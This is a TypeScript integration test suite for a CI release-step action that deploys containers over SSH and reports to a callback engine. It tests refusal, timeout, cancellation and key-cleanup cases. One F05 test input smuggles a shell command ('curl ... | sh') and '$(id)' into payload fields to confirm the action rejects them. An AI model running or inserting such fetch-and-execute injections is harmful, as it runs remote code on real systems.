// The bundled release-step action run as a runner runs it (main, then post), against a real
// sshd on 127.0.0.1 whose sessions use the stand-in container CLI, and the engine stand-in.
// Failure cases F02(b), F03, F04, F05, F06, F07, F08, F11; the key never outlives the job.

import { existsSync, readFileSync } from "node:fs";
import { createServer, type Socket } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { payloadDigestOf } from "../../engine/src/protocol/payload-digest.ts";
import { callbacksOf, type Fixture, startFixture } from "../support/action-fixture.ts";
import { containerName } from "../support/standin-target.ts";

let f: Fixture;
beforeAll(async () => {
  f = await startFixture();
});
afterAll(async () => {
  await f?.close();
});
afterEach(() => {
  // The key file never outlives a job, whatever happened in it.
  expect(f.keyDirs()).toEqual([]);
  for (const k of ["fail-pull", "fail-health", "hang", "signal"]) f.target.knob(k, "");
});

type Checks = {
  name: string;
  status: string;
  exit_code?: number | null;
  signal?: string | null;
  class?: string;
}[];

/**
 * A tool script (sh) that finds its `--result-dir` argument as `$d`, then runs `lines`: the
 * result files written by hand.
 */
const resultTool = (lines: string[]) =>
  [
    "#!/bin/sh",
    'while [ $# -gt 0 ]; do case "$1" in --result-dir) d="$2";; esac; shift 2; done',
    ...lines,
  ].join("\n");

const statuses = (checks: unknown) => (checks as Checks).map((c) => [c.name, c.status]);

describe("release-step action, bundled, as a runner runs it", () => {
  it("deploys over SSH, calls back once with the checks, writes outputs and a summary with the engine link", async () => {
    const { payload, lane, img } = await f.stepRun();
    const r = await f.run(payload);
    expect(r.main.code).toBe(0);
    expect(r.post?.code).toBe(0);
    expect(r.outputs).toEqual({
      "step-run-id": payload.step_run_id,
      status: "succeeded",
      overall: "pass",
    });
    const cbs = callbacksOf(f.engine, payload.step_run_id);
    expect(cbs).toHaveLength(1);
    expect(cbs[0]?.status).toBe(200);
    const body = cbs[0]?.body as Record<string, unknown>;
    expect(body).toMatchObject({
      run_id: "9001",
      run_attempt: 1,
      attempt: 1,
      status: "succeeded",
      overall: "pass",
    });
    expect(statuses(body.checks)).toEqual([
      ["connect", "ok"],
      ["pull", "ok"],
      ["start", "ok"],
      ["health", "ok"],
      ["stop-old", "ok"],
    ]);
    const timings = body.timings as Record<string, number>;
    expect(timings.tool_started_at).toBeGreaterThanOrEqual(timings.started_at as number);
    expect(f.target.container(containerName(lane, img))?.running).toBe(true);
    expect(r.summary).toContain("| check | status | exit code | signal | ms | message |");
    expect(r.summary).toContain(`${f.engine.url}/step-runs/${payload.step_run_id}`);
    for (const n of [
      "1. seed",
      "2. validate",
      "3. verify",
      "4. preflight",
      "5. provision",
      "6. run tool",
      "7. report",
    ]) {
      expect(r.main.stdout).toContain(`::group::${n}`);
    }
    expect(r.post?.stdout).toContain("the engine gave its final answer to the callback");
  });

  it("a manual workflow_dispatch run with step_run_id and payload inputs runs the step", async () => {
    const { payload } = await f.stepRun({ tool: "noop" });
    const r = await f.run(payload, {
      eventName: "workflow_dispatch",
      event: { inputs: { step_run_id: payload.step_run_id, payload: JSON.stringify(payload) } },
    });
    expect(r.main.code).toBe(0);
    expect(r.outputs.overall).toBe("pass");
  });

  it("F02(b): another repository_dispatch type with an allowlisted tool exits before provisioning or running", async () => {
    const { payload } = await f.stepRun();
    const calls = f.target.calls().length;
    const r = await f.run(payload, {
      event: { action: "nightly-report", client_payload: payload },
    });
    expect(r.main.code).toBe(1);
    expect(r.main.stdout).toMatch(/nightly-report.*is not 'release-step'/);
    expect(f.engine.received.filter((x) => x.stepRunId === payload.step_run_id)).toEqual([]);
    expect(r.state.key_dir).toBeUndefined();
    expect(f.target.calls().length).toBe(calls);
    expect(r.main.stdout).not.toContain("::group::5.");
  });

  it.each([
    [
      "an injection payload (tool with a shell command, step_run_id with $(id), foreign callback)",
      {
        tool: 'deploy"; curl -s https://x.invalid/p | sh; echo "',
        step_run_id: "sr_1$(id)",
        callback_url: "https://elsewhere.invalid/cb",
      },
      /client_payload\.(tool|step_run_id)/,
    ],
    ["a tool name that is not allowlisted", { tool: "deploy" }, /not in the allowlist/],
    ["an allowlisted name with a suffix", { tool: "attach-queue-lane-x" }, /not in the allowlist/],
    [
      "a callback URL on another origin",
      { callback_url: "https://elsewhere.invalid/v1/releases/step-runs/x/callback" },
      /callback_url/,
    ],
    ["a callback URL for another step run", { callback_url: "SELF_OTHER" }, /callback_url/],
  ])("F05: %s is refused: nothing provisioned, preflighted or run", async (_name, patch, re) => {
    const { payload } = await f.stepRun();
    const bad: Record<string, unknown> = { ...payload, ...patch };
    if (bad.callback_url === "SELF_OTHER")
      bad.callback_url = `${f.engine.url}/v1/releases/step-runs/sr_1_1_f/callback`;
    const calls = f.target.calls().length;
    const r = await f.run(bad);
    expect(r.main.code).toBe(1);
    expect(r.main.stdout).toMatch(re);
    expect(r.outputs.status).toBe("invalid");
    expect(f.engine.received.filter((x) => x.stepRunId === payload.step_run_id)).toEqual([]);
    expect(r.state.key_dir).toBeUndefined();
    expect(r.main.stdout).not.toContain("::group::5.");
    expect(f.target.calls().length).toBe(calls);
  });

  it.each([
    ["the tool file is missing", null, 0o755],
    ["the tool file is not executable", "#!/bin/sh\nexit 0\n", 0o644],
    ["the tool exits 127", "#!/bin/sh\nexit 127\n", 0o755],
  ])(
    "F06: %s -> status failed, class tool_not_found, callback sent, job fails",
    async (_name, script, mode) => {
      const { payload } = await f.stepRun();
      const ws = f.workspaceWithTool(script, mode);
      const r = await f.run(payload, {
        workspace: ws,
        inputs: inputsWith({ allowlist: "allowlist.json" }),
      });
      expect(r.main.code).toBe(1);
      const cbs = callbacksOf(f.engine, payload.step_run_id);
      expect(cbs).toHaveLength(1);
      expect(cbs[0]?.body).toMatchObject({ status: "failed", overall: "fail" });
      const checks = cbs[0]?.body.checks as Checks;
      expect(checks.at(-1)).toMatchObject({
        name: "tool",
        status: "failed",
        class: "tool_not_found",
      });
      expect(String(cbs[0]?.body.log)).toMatch(/tool/);
    },
  );

  it("F07: a failed pull is reported per phase; later phases not_run; the old container keeps running", async () => {
    const { payload, lane, img, prev } = await f.stepRun();
    f.target.seedRunning(
      lane,
      prev,
      (payload.args as { lane: { health_url: string } }).lane.health_url,
    );
    f.target.knob("fail-pull", img.split("@sha256:")[1] as string);
    const r = await f.run(payload);
    expect(r.main.code).toBe(1);
    const body = callbacksOf(f.engine, payload.step_run_id)[0]?.body as Record<string, unknown>;
    expect(body.overall).toBe("fail");
    expect(statuses(body.checks)).toEqual([
      ["connect", "ok"],
      ["pull", "failed"],
      ["start", "not_run"],
      ["health", "not_run"],
      ["stop-old", "not_run"],
    ]);
    expect((body.checks as { message?: string }[])[1]?.message).toMatch(/manifest unknown/);
    expect(f.target.container(containerName(lane, prev))?.running).toBe(true);
    expect(
      f.target.calls().some((c) => c[0] === "stop" && c[1] === containerName(lane, prev)),
    ).toBe(false);
  });

  it("F08: a remote process killed by TERM fails its phase with exit_code null and signal TERM", async () => {
    const { payload } = await f.stepRun();
    f.target.knob("signal", "pull");
    const r = await f.run(payload);
    expect(r.main.code).toBe(1);
    const checks = callbacksOf(f.engine, payload.step_run_id)[0]?.body.checks as Checks;
    expect(checks[1]).toMatchObject({
      name: "pull",
      status: "failed",
      exit_code: null,
      signal: "TERM",
    });
    expect(checks.slice(2).every((c) => c.status === "not_run")).toBe(true);
  });

  it("F11: a start phase that never returns times out; the files, callback and key removal still happen", async () => {
    const { payload } = await f.stepRun();
    f.target.knob("hang", "run");
    const r = await f.run(payload, { env: { BATON_PHASE_TIMEOUT_MS: "6000" } });
    expect(r.main.code).toBe(1);
    const body = callbacksOf(f.engine, payload.step_run_id)[0]?.body as Record<string, unknown>;
    expect(statuses(body.checks)).toEqual([
      ["connect", "ok"],
      ["pull", "ok"],
      ["start", "timeout"],
      ["health", "not_run"],
      ["stop-old", "not_run"],
    ]);
    expect(body.overall).toBe("fail");
  });

  it("F11: a port that accepts TCP but never sends a banner is a connect timeout, reported", async () => {
    const sockets: Socket[] = [];
    const silent = createServer((s) => sockets.push(s));
    await new Promise<void>((res) => silent.listen(0, "127.0.0.1", res));
    try {
      const { payload } = await f.stepRun();
      (payload.args as { lane: { port: number } }).lane.port = (
        silent.address() as { port: number }
      ).port;
      f.engine.setPayloadDigest(payload.step_run_id, payloadDigestOf(payload));
      const r = await f.run(payload, { env: { BATON_CONNECT_TIMEOUT_MS: "1000" } });
      expect(r.main.code).toBe(1);
      const checks = callbacksOf(f.engine, payload.step_run_id)[0]?.body.checks as Checks;
      expect(checks[0]).toMatchObject({
        name: "connect",
        status: "timeout",
        class: "connect_timeout",
      });
    } finally {
      for (const s of sockets) s.destroy();
      silent.close();
    }
  });

  it("a wrong host-key pin fails the connect with host_key_mismatch before authentication; nothing runs on the lane", async () => {
    const { payload } = await f.stepRun();
    (payload.args as { lane: { host_key: string } }).lane.host_key =
      `ssh-ed25519 SHA256:${"B".repeat(43)}`;
    f.engine.setPayloadDigest(payload.step_run_id, payloadDigestOf(payload));
    const calls = f.target.calls().length;
    const logBefore = readFileSync(f.sshd.logFile, "utf8").length;
    const r = await f.run(payload);
    expect(r.main.code).toBe(1);
    const checks = callbacksOf(f.engine, payload.step_run_id)[0]?.body.checks as Checks;
    expect(checks[0]).toMatchObject({
      name: "connect",
      status: "failed",
      class: "host_key_mismatch",
    });
    expect(checks.slice(1).every((c) => c.status === "not_run")).toBe(true);
    expect(readFileSync(f.sshd.logFile, "utf8").slice(logBefore)).not.toMatch(
      /Accepted publickey|Failed publickey/,
    );
    expect(f.target.calls().length).toBe(calls);
  });

  it("a tool that exceeds the overall deadline is stopped and reported as timeout", async () => {
    const { payload } = await f.stepRun();
    const ws = f.workspaceWithTool("#!/bin/sh\nsleep 30\n");
    const r = await f.run(payload, {
      workspace: ws,
      inputs: inputsWith({ allowlist: "allowlist.json" }),
      env: { BATON_TOOL_TIMEOUT_MS: "800" },
    });
    expect(r.main.code).toBe(1);
    const body = callbacksOf(f.engine, payload.step_run_id)[0]?.body as Record<string, unknown>;
    expect(body.status).toBe("timeout");
    expect((body.checks as Checks).at(-1)).toMatchObject({ class: "tool_timeout" });
  });

  it("preflight 409 (a duplicate delivery to another run) ends cleanly, exit 0, reason in the summary, nothing touched", async () => {
    const { payload } = await f.stepRun({ tool: "noop" });
    expect((await f.run(payload)).main.code).toBe(0);
    const r = await f.run(payload, { runId: "9002" });
    expect(r.main.code).toBe(0);
    expect(r.outputs.status).toBe("declined");
    expect(r.summary).toMatch(/409.*duplicate delivery/s);
    expect(r.state.key_dir).toBeUndefined();
    expect(r.main.stdout).not.toContain("::group::5.");
    expect(callbacksOf(f.engine, payload.step_run_id)).toHaveLength(1);
  });

  it("preflight 401 (wrong secret) fails the job without touching anything", async () => {
    const { payload } = await f.stepRun({ tool: "noop" });
    const r = await f.run(payload, { inputs: inputsWith({ "callback-secret": "not-the-secret" }) });
    expect(r.main.code).toBe(1);
    expect(r.main.stdout).toMatch(/callback-secret matches/);
    expect(r.state.key_dir).toBeUndefined();
  });

  it("retries the callback on 5xx with backoff and stops at the first 4xx", async () => {
    const a = await f.stepRun({ tool: "noop" });
    f.engine.failNext("callback", 503, 2);
    const ok = await f.run(a.payload);
    expect(ok.main.code).toBe(0);
    expect(callbacksOf(f.engine, a.payload.step_run_id).map((c) => c.status)).toEqual([
      503, 503, 200,
    ]);
    const b = await f.stepRun({ tool: "noop" });
    f.engine.failNext("callback", 422, 1);
    const refused = await f.run(b.payload);
    expect(refused.main.code).toBe(1);
    // One request only: neither the main step nor the post step resends after a 4xx.
    expect(callbacksOf(f.engine, b.payload.step_run_id).map((c) => c.status)).toEqual([422]);
    // Identical bytes on every retry.
    const bodies = f.engine.received
      .filter((x) => x.stepRunId === a.payload.step_run_id && x.route === "callback")
      .map((x) => x.body);
    expect(new Set(bodies).size).toBe(1);
  });

  it("sends checks as null when checks.json is not JSON (a pass then fails the job), and cuts a long log to the cap with the marker", async () => {
    const { payload } = await f.stepRun();
    const script = resultTool([
      'echo "{not json" > "$d/checks.json"',
      'head -c 400000 /dev/zero | tr "\\0" "x" > "$d/log"',
      'echo succeeded > "$d/status"; echo pass > "$d/overall"',
    ]);
    const ws = f.workspaceWithTool(script);
    const r = await f.run(payload, {
      workspace: ws,
      inputs: inputsWith({ allowlist: "allowlist.json" }),
    });
    expect(r.main.code).toBe(1);
    expect(r.main.stdout).toContain("checks.json did not arrive");
    const body = callbacksOf(f.engine, payload.step_run_id)[0]?.body as Record<string, unknown>;
    expect(body.checks).toBeNull();
    expect(
      String(body.log).endsWith("[action] checks.json is not valid JSON; checks sent as null\n"),
    ).toBe(true);
    expect(body.log_truncated).toBe(true);
    expect(String(body.log).startsWith("[baton] log truncated")).toBe(true);
    expect(Buffer.byteLength(String(body.log))).toBeLessThanOrEqual(256 * 1024);
    expect(r.main.stdout).toMatch(/checks\.json is not valid JSON/);
  });

  it("a tool that writes overall pass beside a failed check fails the job, naming the check, as the engine counts it", async () => {
    const { payload } = await f.stepRun();
    const script = resultTool([
      'echo \'[{"name":"connect","status":"ok"},{"name":"health","status":"failed","http_status":503}]\' > "$d/checks.json"',
      'echo succeeded > "$d/status"; echo pass > "$d/overall"',
    ]);
    const r = await f.run(payload, {
      workspace: f.workspaceWithTool(script),
      inputs: inputsWith({ allowlist: "allowlist.json" }),
    });
    expect(r.main.code).toBe(1);
    expect(r.main.stdout).toContain(
      `step run ${payload.step_run_id} succeeded (overall pass), but its check "health" says "failed": a result with a failed check is a failure`,
    );
    // The result is sent as the tool wrote it: the engine judges it by the same rule.
    const body = callbacksOf(f.engine, payload.step_run_id)[0]?.body as Record<string, unknown>;
    expect(body.overall).toBe("pass");
  });

  it("checks.json over the callback cap: strings are cut to 256 characters, the failed check still arrives", async () => {
    const { payload } = await f.stepRun();
    const script = resultTool([
      `printf '[{"name":"health","status":"failed","message":"503 model not loaded"},{"name":"dump","status":"ok","message":"%s"}]' "$(head -c 1100000 /dev/zero | tr '\\0' x)" > "$d/checks.json"`,
      'echo succeeded > "$d/status"; echo pass > "$d/overall"',
    ]);
    const r = await f.run(payload, {
      workspace: f.workspaceWithTool(script),
      inputs: inputsWith({ allowlist: "allowlist.json" }),
    });
    expect(r.main.code).toBe(1);
    const body = callbacksOf(f.engine, payload.step_run_id)[0]?.body as Record<string, unknown>;
    const checks = body.checks as { name: string; status: string; message: string }[];
    expect(checks.map((c) => [c.name, c.status])).toEqual([
      ["health", "failed"],
      ["dump", "ok"],
    ]);
    expect(checks[1]?.message).toHaveLength(256);
    expect(String(body.checks_clipped)).toContain("strings over 256 characters were cut");
    expect(body.checks_dropped).toBeUndefined();
  });

  it("F03: attempt 2 starts seeded in its own directory and reports none of attempt 1's checks; a late attempt-1 callback is fenced", async () => {
    const { payload } = await f.stepRun();
    f.target.knob("fail-health", (payload.args as { lane: { id: string } }).lane.id);
    // Attempt 1 fails its health check; its callback cannot get through yet (engine 503s), and its post step is delayed.
    f.engine.failNext("callback", 503, 100);
    const first = await f.run(payload, {
      post: false,
      env: { BATON_HTTP_ATTEMPTS: "2", BATON_HEALTH_TIMEOUT_S: "2" },
    });
    expect(first.main.code).toBe(1);
    f.engine.failNext("callback", 503, 0);
    f.target.knob("fail-health", "");
    // Attempt 2 (Re-run failed jobs): the tool crashes before writing checks.json.
    const ws = f.workspaceWithTool("#!/bin/sh\necho crashing >&2\nexit 3\n");
    const second = await f.run(payload, {
      runAttempt: 2,
      workspace: ws,
      inputs: inputsWith({ allowlist: "allowlist.json" }),
    });
    expect(second.main.code).toBe(1);
    const dirs = [first, second].map(
      (x) => JSON.parse(x.state.callback as string).result_dir as string,
    );
    expect(dirs[0]).not.toBe(dirs[1]);
    const accepted = f.engine.results(payload.step_run_id);
    expect([...accepted.keys()]).toEqual([2]);
    const checks2 = accepted.get(2)?.checks as Checks;
    expect(checks2.map((c) => c.name)).toEqual(["tool"]);
    expect(checks2[0]).toMatchObject({ class: "tool_crashed", exit_code: 3 });
    expect(accepted.get(2)?.log).toContain("crashing");
    // Attempt 1's post step now delivers its (older) result: refused, attempt 2's result stands.
    const late = await first.runPost();
    expect(late.code).toBe(0);
    expect(callbacksOf(f.engine, payload.step_run_id).at(-1)?.status).toBe(409);
    expect([...f.engine.results(payload.step_run_id).keys()]).toEqual([2]);
    expect(existsSync(join(dirs[0] as string, "checks.json"))).toBe(true);
    expect(readFileSync(join(dirs[0] as string, "checks.json"), "utf8")).toMatch(/health/);
  });
});

describe("F04: cancellation; the key file never outlives the job", () => {
  it("cancelled after the tool succeeded, before the report: post sends the tool's real result", async () => {
    const { payload } = await f.stepRun();
    f.engine.failNext("callback", 503, 1);
    const r = await f.run(payload, {
      env: { BATON_HTTP_BASE_DELAY_MS: "3000" },
      cancel: { when: /retry 2\//, signal: "SIGTERM" },
    });
    expect(r.main.code).not.toBe(0);
    expect(r.post?.code).toBe(0);
    const cbs = callbacksOf(f.engine, payload.step_run_id);
    expect(cbs.map((c) => c.status)).toEqual([503, 200]);
    expect(cbs[1]?.body).toMatchObject({ status: "succeeded", overall: "pass" });
    expect(cbs[1]?.body.timings).toMatchObject({ from_post: 1 });
  });

  it.each(["SIGTERM", "SIGINT"] as const)(
    "%s during the SSH phase: tool stopped, post reports a failure, key removed",
    async (signal) => {
      const { payload } = await f.stepRun();
      f.target.knob("hang", "run");
      const r = await f.run(payload, { cancel: { when: /pull: ok/, signal } });
      expect(r.main.code).not.toBe(0);
      const cbs = callbacksOf(f.engine, payload.step_run_id);
      expect(cbs).toHaveLength(1);
      expect(cbs[0]?.body.overall).toBe("fail");
      expect(cbs[0]?.body.status).not.toBe("succeeded");
      expect(r.post?.stdout).toContain("SSH key directory removed");
    },
  );

  it("a tool that prints its key: neither the main step's callback nor the post step's carries a line of it", async () => {
    const { payload } = await f.stepRun();
    const ws = f.workspaceWithTool(
      '#!/bin/sh\nwhile [ $# -gt 0 ]; do [ "$1" = --key ] && cat "$2"; shift; done\nexit 1\n',
    );
    // The main step's one try is refused 503, so the post step sends the result again.
    f.engine.failNext("callback", 503, 1);
    await f.run(payload, {
      workspace: ws,
      inputs: inputsWith({ allowlist: "allowlist.json" }),
      env: { BATON_HTTP_ATTEMPTS: "1" },
    });
    const cbs = callbacksOf(f.engine, payload.step_run_id);
    expect(cbs.map((c) => c.status)).toEqual([503, 200]);
    expect(cbs[1]?.body.timings).toMatchObject({ from_post: 1 });
    const keyLines = f.sshd.clientKey
      .split("\n")
      .map((l) => l.trim())
      .filter((l) => l.length >= 8 && !l.startsWith("-----"));
    expect(keyLines.length).toBeGreaterThan(0);
    for (const [i, c] of cbs.entries()) {
      const log = String(c.body.log);
      expect(log, `callback ${i}`).toContain("***");
      for (const line of keyLines) expect(log, `callback ${i}`).not.toContain(line);
    }
  });

  it("SIGTERM while a tool that ignores SIGTERM runs: the main step stops its process group before it exits", async () => {
    const { payload, r, pid } = await cancelStubbornTool("SIGTERM");
    expect(r.post?.stdout).not.toContain("was still running");
    expect(await stoppedWithin(pid, 2_000)).toBe(true);
    const cbs = callbacksOf(f.engine, payload.step_run_id);
    expect(cbs).toHaveLength(1);
    expect(cbs[0]?.body.overall).toBe("fail");
  });

  it("the main step killed outright mid-tool: the post step stops the tool, then reports", async () => {
    const { payload, r, pid } = await cancelStubbornTool("SIGKILL");
    expect(r.post?.stdout).toContain("was still running after the main step ended");
    expect(await stoppedWithin(pid, 2_000)).toBe(true);
    const cbs = callbacksOf(f.engine, payload.step_run_id);
    expect(cbs).toHaveLength(1);
    expect(cbs[0]?.body).toMatchObject({
      status: "cancelled",
      overall: "fail",
      timings: { from_post: 1 },
    });
    expect((cbs[0]?.body.checks as Checks | undefined)?.at(-1)).toMatchObject({
      name: "tool",
      status: "cancelled",
      class: "tool_stopped",
    });
  });

  it("a tool that crashes still leaves no key behind and reports failed", async () => {
    const { payload } = await f.stepRun();
    const ws = f.workspaceWithTool("#!/bin/sh\nkill -SEGV $$\n");
    const r = await f.run(payload, {
      workspace: ws,
      inputs: inputsWith({ allowlist: "allowlist.json" }),
    });
    expect(r.main.code).toBe(1);
    const checks = callbacksOf(f.engine, payload.step_run_id)[0]?.body.checks as Checks;
    expect(checks.at(-1)).toMatchObject({ class: "tool_crashed", signal: "SEGV" });
  });
});

/** A tool that ignores SIGTERM (its children inherit that) and works for 30 s. */
const STUBBORN_TOOL = "#!/bin/sh\ntrap '' TERM\necho tool-pid $$\necho working\nsleep 30\n";

/**
 * Runs {@link STUBBORN_TOOL} and sends `signal` to the main step once the tool works. Returns
 * the step run's payload, the run and the tool's pid.
 */
async function cancelStubbornTool(signal: NodeJS.Signals) {
  const { payload } = await f.stepRun();
  const r = await f.run(payload, {
    workspace: f.workspaceWithTool(STUBBORN_TOOL),
    inputs: inputsWith({ allowlist: "allowlist.json" }),
    cancel: { when: /working/, signal },
  });
  const pid = Number(/tool-pid (\d+)/.exec(r.main.stdout)?.[1]);
  expect(pid).toBeGreaterThan(1);
  return { payload, r, pid };
}

/** Whether process `pid` is gone or a zombie within `ms` (polled every 50 ms). */
async function stoppedWithin(pid: number, ms: number): Promise<boolean> {
  for (let waited = 0; ; waited += 50) {
    let state = "";
    try {
      const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
      state = stat.slice(stat.lastIndexOf(")") + 2, stat.lastIndexOf(")") + 3);
    } catch {
      return true;
    }
    if (state === "Z") return true;
    if (waited >= ms) return false;
    await new Promise((r) => setTimeout(r, 50));
  }
}

function inputsWith(extra: Record<string, string>): Record<string, string> {
  return {
    "engine-url": f.engine.url,
    "callback-secret": f.engine.secret,
    "ssh-key": f.sshd.clientKey,
    ...extra,
  };
}
